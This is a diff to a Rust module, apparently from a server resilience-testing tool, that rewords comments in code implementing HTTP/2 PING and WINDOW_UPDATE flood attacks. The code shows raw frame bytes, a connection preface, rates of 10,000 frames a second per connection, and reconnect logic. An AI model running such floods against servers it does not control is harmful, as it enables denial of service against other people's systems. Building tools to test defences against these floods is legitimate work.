@@ -1,4 +1,4 @@
-//! Frames of HTTP/2 that ask for nothing and make work: each is legal, and cheap for the sender.
+//! HTTP/2 frames that request nothing and cause work: each is legal, and cheap for the sender.
 
 use std::io::Result;
 use std::time::Duration;
@@ -12,17 +12,17 @@ use crate::attack::{Attack, Met, Tally};
 use crate::site::{ATTACKER, Site};
 use crate::wire::connect;
 
-/// Connections at once.
+/// Concurrent connections.
 const CONNECTIONS: usize = 4;
 
-/// Frames written at once and how often: 10,000 a second on each connection.
+/// Frames written at once; with the pause below, 10,000 a second on each connection.
 const FRAMES: usize = 200;
 const FRAMES_PAUSE: Duration = Duration::from_millis(20);
 
-/// Before a connection that was ended is made anew.
+/// Wait before a connection that was ended is opened again.
 const RETRY_PAUSE: Duration = Duration::from_millis(500);
 
-/// What a client says first, with settings that change nothing.
+/// The first bytes of a client, with settings that change nothing.
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
 
 /// A flood of one kind of frame.
@@ -45,7 +45,7 @@ impl FrameFlood {
         frame: b"\0\0\x08\x06\0\0\0\0\0attacker",
     };
 
-    /// Of the connection, by one byte: the window stays within its limit for days.
+    /// For the connection, by one byte: the window stays within its limit for days.
     pub(crate) const WINDOW_UPDATE: Self = Self {
         name: "http2-window-update",
         does: "40,000 WINDOW_UPDATE frames a second on four connections",
@@ -81,7 +81,7 @@ async fn keep_flooding(site: &Site, tally: &Tally, burst: &[u8]) {
         match connect(ATTACKER, site.address).await {
             Ok(stream) => {
                 tally.opened();
-                // Either way it has ended, and only the server ends it.
+                // With or without an error it has ended, and only the server ends it.
                 let _ = flood(stream, burst).await;
                 tally.cut();
             }
